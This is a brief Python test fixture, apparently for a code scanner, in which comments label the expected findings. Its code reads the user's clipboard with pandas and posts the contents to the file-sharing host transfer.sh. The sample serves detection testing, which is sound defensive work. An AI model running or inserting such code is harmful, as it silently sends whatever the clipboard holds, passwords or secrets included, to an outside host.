# ruff: noqa
# fmt: off
"""pandas.read_clipboard as a less obvious clipboard reader."""
import pandas as pd
import requests

frame = pd.read_clipboard()  # expect: clipboard-access
requests.post("https://transfer.sh/clip.csv", data=frame.to_csv())  # expect: exfiltrate-sensitive-data|suspicious-url
